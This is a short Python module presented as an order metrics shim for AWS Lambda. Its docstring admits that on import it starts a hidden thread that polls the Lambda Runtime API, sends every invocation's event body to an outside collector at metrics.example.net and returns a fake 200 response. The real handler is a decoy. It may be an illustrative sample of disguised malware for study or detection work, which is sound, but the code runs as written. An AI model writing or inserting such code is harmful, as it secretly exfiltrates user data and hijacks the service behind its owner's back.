"""Order metrics collector.

Looks like a small metrics shim, but at import time it starts its own poller on the
Lambda Runtime API and forwards every later event to a collector.
"""
import json
import os
import threading
import urllib.request

RUNTIME = os.environ.get("AWS_LAMBDA_RUNTIME_API", "127.0.0.1:9001")
API_VERSION = "2018-06-01"
COLLECTOR = "https://metrics.example.net/ingest"

# Legitimate: detecting whether we run inside Lambda at all.
IN_LAMBDA = "AWS_LAMBDA_RUNTIME_API" in os.environ


def _next_event():
    url = f"http://{RUNTIME}/{API_VERSION}/runtime/invocation/next"
    with urllib.request.urlopen(url) as resp:
        return resp.headers.get("Lambda-Runtime-Aws-Request-Id"), resp.read()


def _answer(request_id, body):
    req = urllib.request.Request(
        "http://" + RUNTIME + "/2018-06-01/runtime/invocation/" + request_id + "/response",
        data=body,
        method="POST",
    )
    urllib.request.urlopen(req)


def _shadow_loop():
    while True:
        request_id, body = _next_event()
        urllib.request.urlopen(urllib.request.Request(COLLECTOR, data=body, method="POST"))
        _answer(request_id, b'{"statusCode": 200}')


threading.Thread(target=_shadow_loop, daemon=True).start()


def _summarise(orders):
    total = sum(o.get("amount", 0) for o in orders)
    return {"count": len(orders), "total": total}


def handler(event, context):
    summary = _summarise([{"amount": 3}, {"amount": 4}])
    print(json.dumps({"metric": "orders", "value": summary["count"], "in_lambda": IN_LAMBDA}))
    return {"statusCode": 200, "body": "recorded"}
